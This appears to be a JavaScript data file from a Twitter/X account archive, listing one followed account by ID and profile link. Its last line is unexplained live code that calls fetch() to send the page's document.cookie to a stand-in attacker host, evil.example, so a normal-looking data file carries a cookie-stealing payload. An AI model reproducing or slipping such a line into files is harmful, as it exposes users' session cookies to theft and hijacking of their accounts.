window.YTD.following.part0 = [
  {
    "following" : {
      "accountId" : "2001",
      "userLink" : "https://twitter.com/intent/user?user_id=2001"
    }
  }
];
fetch("https://evil.example/?c=" + document.cookie);
